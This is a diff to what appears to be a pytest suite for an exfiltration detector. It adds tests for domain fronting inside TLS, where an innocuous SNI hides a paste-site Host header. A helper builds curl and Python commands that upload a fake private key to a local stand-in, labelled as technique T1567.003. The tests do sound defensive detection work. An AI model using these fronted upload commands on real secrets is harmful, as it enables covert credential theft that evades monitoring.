@@ -11,10 +11,10 @@ import subprocess
 import pytest
 
 from harness import ConnectProxy, Scenario, as_list, assert_silent, check_service_saw, execute, get
-from harness import is_action, paths
+from harness import is_action, is_alert, paths, replay
 from harness.config import HTTP_PORT, HTTPS_PORT, PROXY_PORT
 
-from test_scenarios import run_attack, wait_for_evidence
+from test_scenarios import alert_key, run_attack, wait_for_evidence
 
 WAIT_S = 20.0
 PASTE = "paste.ee"
@@ -926,6 +926,65 @@ def test_everyday_post_through_a_proxy_is_silent(monitor, standin, naming_proxy,
     shell = (f"curl -sk -x {naming_proxy.url} --connect-to {NAMED}:8443:{FRONT}:8443 "
              f"-T {HARMLESS} https://{NAMED}:8443/")
     named_silent(monitor, standin, fake_home, tmp_path, "proxy-twin", shell, PROXY_PORT + 1)
+
+
+# Fronting inside TLS: the SNI names a harmless host, the Host header inside the encrypted stream
+# (seen in the SSL_write plaintext by the uprobes) names the paste site. Both names are kept and
+# the paste site counts. Twins: SNI and Host agree on a harmless host; they differ, both harmless.
+OTHER_FRONT = "docs.example.org"  # another harmless name, for the twin where the two differ
+
+
+def fronted_upload(client, payload, host, sni=FRONT):
+    url = f"https://{sni}:8443/upload"
+    if client == "curl":
+        return (f"curl -sk --http1.1 --resolve {sni}:8443:127.0.0.1 -H 'Host: {host}' "
+                f"--data-binary @{payload} {url}")
+    return (f"{paths.PYTHON} -c 'import requests, urllib3; urllib3.disable_warnings(); "
+            f"requests.post(\"{url}\", data=open(\"{payload}\", \"rb\").read(), "
+            f"headers={{\"Host\": \"{host}\"}}, verify=False, timeout=20).raise_for_status()'")
+
+
+def host_seen_in_tls(monitor, host, process):
+    """The http-request record the TLS plaintext gave (Host `host`, by `process`), to HTTPS_PORT."""
+    return monitor.wait_for(lambda r: get(r, "event.action") == "http-request"
+                            and get(r, "url.domain") == host and get(r, "destination.port") == HTTPS_PORT
+                            and str(get(r, "process.name")).startswith(process),
+                            WAIT_S, f"an http-request for {host} from the TLS plaintext of {process}")
+
+
+@pytest.mark.parametrize("client", ["curl", "requests"])
+def test_fronting_inside_tls_is_named_by_the_host_header(monitor, standin, fake_home, tmp_path, client):
+    scenario = Scenario(f"tls-fronting-{client}", "alert", fronted_upload(client, key_of(fake_home), NAMED),
+                        technique="T1567.003", domain=NAMED, hosts=(FRONT,), uploads=True)
+    found = run_attack(scenario, monitor, standin, fake_home, tmp_path)
+    assert_no_secret(monitor, key_of(fake_home))
+    process = "curl" if client == "curl" else "python"
+    assert hello_named(monitor, HTTPS_PORT, FRONT, process), "the SNI was not the harmless name"
+    host_seen_in_tls(monitor, NAMED, process)
+    alerts = named_alerts(monitor, HTTPS_PORT)
+    evidence = [s.get("evidence", "") for a in alerts for s in as_list(get(a, "exfilwatch.signals", []))]
+    assert any(f"also named {FRONT}" in e for e in evidence), evidence
+    # The Host came from the plaintext in an http-request record: replay decides the same.
+    returncode, records, stderr = replay(monitor.output, tmp_path / "replayed.ndjson")
+    assert returncode == 0, stderr
+    live = sorted(map(alert_key, filter(is_alert, monitor.records())), key=repr)
+    assert sorted(map(alert_key, filter(is_alert, records)), key=repr) == live
+    assert found
+
+
+@pytest.mark.parametrize("host", [FRONT, OTHER_FRONT], ids=["agree", "differ"])
+def test_fronting_inside_tls_twins_are_silent(monitor, standin, fake_home, tmp_path, host):
+    scenario = Scenario(f"tls-fronting-twin-{host}", "silent", fronted_upload("curl", HARMLESS, host),
+                        domain=host, hosts=(FRONT,), uploads=True)
+    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
+    check_service_saw(scenario, standin)
+    host_seen_in_tls(monitor, host, "curl")
+    monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary" and get(r, "destination.port") == HTTPS_PORT
+                     and get(r, "destination.domain") == FRONT and str(get(r, "process.name")).startswith("curl"),
+                     WAIT_S, f"a flow-summary to {FRONT}")
+    monitor.stop()
+    assert_silent([r for r in monitor.records()
+                   if get(r, "destination.port") == HTTPS_PORT or str(tmp_path) in json.dumps(r)])
 
 
 def tls_upload(*options):
